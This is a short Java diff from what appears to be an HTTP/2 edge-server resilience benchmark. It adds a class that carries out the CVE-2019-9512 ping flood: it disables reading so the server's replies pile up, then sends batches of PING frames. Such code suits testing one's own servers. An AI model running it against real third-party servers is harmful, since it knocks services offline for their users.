@@ -1,0 +1,27 @@
+package dev.backsource.benchmarks.edge.hostile;
+
+import io.netty.channel.ChannelHandlerContext;
+
+/** Frames that the edge has to answer, whose answers aren't read (CVE-2019-9512). */
+final class UnreadPings extends Http2Conduct {
+    private static final int AT_ONCE = 200;
+    private static final int WINDOW = 65_535;
+
+    UnreadPings(Tally tally) {
+        super(tally, WINDOW);
+    }
+
+    @Override
+    void opened(ChannelHandlerContext context) {
+        context.channel().config().setAutoRead(false);
+    }
+
+    @Override
+    public void goOn(ChannelHandlerContext context) {
+        for (var i = 0; i < AT_ONCE && context.channel().isWritable(); i++) {
+            writer().writePing(context, false, i, context.newPromise());
+            tally().asked(1);
+        }
+        context.flush();
+    }
+}
